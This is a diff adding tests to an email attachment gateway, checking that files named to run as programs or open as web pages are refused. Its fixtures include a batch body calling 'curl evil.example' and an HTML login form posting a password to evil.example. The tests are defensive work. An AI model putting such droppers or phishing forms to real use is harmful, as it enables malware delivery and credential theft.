@@ -192,6 +192,24 @@ def test_a_png_without_a_declared_type_passes_as_png(on: Gateway) -> None:
     assert stored.content_type == "image/png"  # the content decides, not the name
 
 
+@pytest.mark.parametrize(
+    "name",
+    ["setup.bat", "run.ps1", "update.hta", "invoice.js", "macro.vbs", "login.URL", "tool.exe", "a.cmd."],
+)
+def test_a_name_the_recipients_system_runs_is_refused_whatever_the_bytes(on: Gateway, name: str) -> None:
+    # Plain UTF-8 text passes as text/plain by content; opened by name it runs as a program.
+    exc = refused(on, Attachment(filename=name, content_type="", data=b"@echo off\r\ncurl evil.example\r\n"))
+    assert "runs as a program" in str(exc)
+
+
+@pytest.mark.parametrize("name", ["invoice.html", "statement.HTM", "logo.svg", "page.xhtml"])
+def test_a_page_name_on_text_is_refused(on: Gateway, name: str) -> None:
+    # A browser renders `invoice.html` (a login form posting anywhere); the approver read "text/plain".
+    page = b"<html><form action='https://evil.example'><input name=pw></form></html>"
+    exc = refused(on, Attachment(filename=name, content_type="text/plain", data=page))
+    assert "opens as a page" in str(exc)
+
+
 def test_a_type_outside_the_allowlist_and_unknown_bytes_are_refused(on: Gateway) -> None:
     gif = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
     assert "image/gif" in str(refused(on, Attachment(filename="a.gif", content_type="", data=gif)))
